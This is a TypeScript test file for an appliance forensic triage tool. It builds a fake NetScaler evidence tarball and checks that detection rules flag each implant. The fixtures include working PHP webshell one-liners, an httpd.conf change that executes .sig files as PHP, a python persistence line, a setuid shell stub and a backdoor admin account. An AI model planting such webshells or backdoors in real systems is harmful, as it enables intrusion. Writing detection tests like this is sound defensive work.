import { createWriteStream } from 'node:fs';
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { pipeline } from 'node:stream/promises';
import { createGzip } from 'node:zlib';
import tar from 'tar-stream';
import { describe, expect, it } from 'vitest';
import { cli } from './support/cli-harness.js';
import { useEngineWorkspace } from './support/engine-workspace.js';
import { engines, postgresSkipReason } from './support/engines.js';

/**
 * The triage rules R12–R20 through `evidence add` of a triage tarball and `weerbaar hunt`: tar
 * metadata (setuid bits, owners) kept, appliance paths found under a collector's own folder,
 * findings stored as detections with file, line and byte offset.
 */

if (postgresSkipReason) describe.skip(postgresSkipReason, () => undefined);

interface Detection {
  rule: string | null;
  verdict: string | null;
  file: string | null;
  line: number | null;
  offset: number | null;
  host: string | null;
  message: string;
}

const MTIME = new Date('2025-07-15T09:30:00Z');

async function tarball(out: string, entries: { name: string; content: string | Buffer; mode?: number; uname?: string; mtime?: Date }[]): Promise<void> {
  const pack = tar.pack();
  const done = pipeline(pack, createGzip(), createWriteStream(out));
  for (const e of entries) {
    const body = Buffer.isBuffer(e.content) ? e.content : Buffer.from(e.content);
    pack.entry({ name: `collect-ns-gw-01/${e.name}`, size: body.length, mode: e.mode ?? 0o644, uname: e.uname ?? 'root', mtime: e.mtime ?? MTIME }, body);
  }
  pack.finalize();
  await done;
}

describe.each(engines)('triage rules on $name', (engine) => {
  const t = useEngineWorkspace(engine);

  it('finds webshells, tampering, persistence, setuid shells, staged data, IOC bytes and ns.conf changes in a triage tarball', async () => {
    const core = Buffer.concat([Buffer.alloc(5000, 0), Buffer.from('GET /x HTTP/1.1\r\nHost: 198.51.100.23\r\n'), Buffer.alloc(100, 0xff)]);
    await tarball(join(t.root, 'triage.tgz'), [
      { name: 'var/netscaler/logon/LogonPoint/uiareas/x.php', content: '<html>\n<?php @eval($_POST["c"]); ?>\n', mode: 0o644, uname: 'nobody' },
      { name: 'var/netscaler/logon/LogonPoint/index.html', content: '<html>stock</html>\n', mode: 0o444 },
      { name: 'etc/httpd.conf', content: 'ServerRoot "/etc"\n#Require all denied\nAddType application/x-httpd-php .sig\n' },
      { name: 'flash/nsconfig/rc.netscaler', content: '# stock comment\nnohup python3 -c "import socket" &\n' },
      { name: 'var/tmp/sh', content: Buffer.from([0x7f, 0x45, 0x4c, 0x46]), mode: 0o4755 },
      { name: 'var/tmp/capture.bin', content: Buffer.concat([Buffer.from([0xd4, 0xc3, 0xb2, 0xa1]), Buffer.alloc(40)]) },
      { name: 'var/core/NSPPE-00-1234.core', content: core },
      { name: 'nsconfig/ns.conf.0', content: '#NS14.1 Build 43.50\nset ns config -IPAddress 192.0.2.1\n' },
      { name: 'nsconfig/ns.conf', content: '#NS14.1 Build 43.50\nset ns config -IPAddress 192.0.2.1\nadd system user backdoor 7a1b2c3d4e5f -encrypted\n' },
    ]);
    expect((await cli(['-w', t.ws, 'evidence', 'add', '--host', 'ns-gw-01', join(t.root, 'triage.tgz')], { env: t.env })).code).toBe(0);
    await writeFile(join(t.root, 'iocs.csv'), 'type,value,confidence,source,valid_until\nipv4,198.51.100.23,90,ncsc,\n');
    const run = await cli(['-w', t.ws, 'hunt', '--json', '--ioc', join(t.root, 'iocs.csv')], { env: t.env });
    expect(run.code, run.stderr).toBe(0);
    const report = JSON.parse(run.stdout) as { triage: { trees: number; files: number; rules: string[]; findings: number; errors: unknown[] }; errors: unknown[] };
    expect(report.triage).toMatchObject({ trees: 1, files: 9, rules: ['NS-R11', 'NS-R12', 'NS-R13', 'NS-R14', 'NS-R15', 'NS-R16', 'NS-R17', 'NS-R18', 'NS-R19', 'NS-R20'], errors: [] });
    expect(report.errors).toEqual([]);

    const timeline = JSON.parse((await cli(['-w', t.ws, 'timeline', '--json'], { env: t.env })).stdout) as Detection[];
    const triage = timeline.filter((d) => /^NS-R(1[1-9]|20)$/.test(d.rule ?? ''));
    const at = (rule: string, file: string) => triage.filter((d) => d.rule === rule && d.file === file).map((d) => d.verdict);
    expect(at('NS-R12', '/var/netscaler/logon/LogonPoint/uiareas/x.php')).toContain('COMPROMISE');
    expect(triage.some((d) => d.file === '/var/netscaler/logon/LogonPoint/index.html')).toBe(false);
    expect(at('NS-R13', '/etc/httpd.conf')).toContain('COMPROMISE');
    expect(at('NS-R14', '/flash/nsconfig/rc.netscaler')).toContain('COMPROMISE');
    expect(at('NS-R15', '/var/tmp/sh')).toEqual(['COMPROMISE']);
    expect(at('NS-R16', '/var/tmp/capture.bin').length).toBeGreaterThan(0);
    expect(at('NS-R20', '/nsconfig/ns.conf')).toEqual(['REVIEW']);
    expect(at('NS-R11', '/var/core/NSPPE-00-1234.core')).toEqual(['REVIEW']);
    // The IOC in the core dump: byte offset into the file, the whole hit in the excerpt.
    const ioc = triage.find((d) => d.rule === 'NS-R17' && d.verdict === 'COMPROMISE');
    expect(ioc).toMatchObject({ file: '/var/core/NSPPE-00-1234.core', offset: 5000 + 'GET /x HTTP/1.1\r\nHost: '.length, host: 'ns-gw-01' });
    expect(ioc?.message).toContain('198.51.100.23');
    // The new account's password hash is never shown.
    expect(triage.filter((d) => d.rule === 'NS-R20').map((d) => d.message).join('\n')).not.toContain('7a1b2c3d4e5f');
    // Every finding names its host.
    expect(new Set(triage.map((d) => d.host))).toEqual(new Set(['ns-gw-01']));
  });

  it('reads an added folder as a collected tree with its file modes', async () => {
    const root = join(t.root, 'copy');
    await mkdir(join(root, 'var', 'vpn', 'themes'), { recursive: true });
    await writeFile(join(root, 'var', 'vpn', 'themes', '.theme.php'), '<?php system($_GET["c"]); ?>\n');
    expect((await cli(['-w', t.ws, 'evidence', 'add', root], { env: t.env })).code).toBe(0);
    const report = JSON.parse((await cli(['-w', t.ws, 'hunt', '--json'], { env: t.env })).stdout) as { summary: { ruleId: string; verdict: string }[]; triage: { trees: number } };
    expect(report.triage.trees).toBe(1);
    expect(report.summary.filter((r) => r.ruleId === 'NS-R12').map((r) => r.verdict)).toContain('COMPROMISE');
  });
});
